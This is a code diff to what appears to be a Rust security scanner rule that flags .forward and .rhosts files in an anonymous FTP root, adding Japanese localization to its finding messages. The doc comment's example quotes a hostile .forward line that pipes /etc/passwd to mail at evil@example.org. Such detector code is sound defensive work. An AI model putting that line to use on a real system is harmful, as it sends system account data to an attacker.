@@ -45,7 +45,7 @@
 //!
 //! ## 例
 //! ```text
-//! home/ftp/.forward: mode 0644, owner ftp, group ftp, 41 bytes: "|/bin/mail evil@example.org < /etc/passwd"
+//! home/ftp/.forward: モード 0644、所有者 ftp、グループ ftp、41 バイト: "|/bin/mail evil@example.org < /etc/passwd"
 //! ```
 //!
 //! ## 対処
@@ -60,7 +60,7 @@
 
 use super::{anon_areas, describe, first_line, join};
 use crate::Context;
-use kensa_core::{Finding, Kind, Outcome, Rule, RuleStatus, Severity};
+use kensa_core::{Finding, Kind, Localized, Outcome, Rule, RuleStatus, Severity, tr};
 
 /// FT003: `.forward` or a non-empty `.rhosts` in the anonymous FTP root.
 pub static RULE: Rule = Rule {
@@ -115,14 +115,28 @@ pub(crate) fn check(ctx: &mut Context<'_>) -> Vec<Finding> {
             if name != ".forward" && empty {
                 continue;
             }
-            let mut text = format!("{shown}: {}, {} bytes", describe(ctx, &meta), meta.len);
+            let Localized {
+                en: mode,
+                ja: mode_ja,
+            } = describe(ctx, &meta);
+            let len = meta.len;
+            let mut text = tr!(
+                "{shown}: {mode}, {len} bytes",
+                "{shown}: {mode_ja}、{len} バイト"
+            );
             match (&content, meta.kind) {
                 (Some(bytes), _) if !bytes.is_empty() => {
-                    text.push_str(&format!(": {:?}", first_line(bytes)));
+                    // The file's first line is quoted as it is, in both languages.
+                    let quoted = format!(": {:?}", first_line(bytes));
+                    text.en.push_str(&quoted);
+                    text.ja.push_str(&quoted);
                 }
                 (_, crate::FileKind::Symlink) => {
                     if let Ok(target) = ctx.root.read_link(&rel) {
-                        text.push_str(&format!(" (a link to {})", target.display()));
+                        let target = target.display();
+                        text.en.push_str(&format!(" (a link to {target})"));
+                        text.ja
+                            .push_str(&format!("（{target} へのシンボリックリンク）"));
                     }
                 }
                 _ => {}
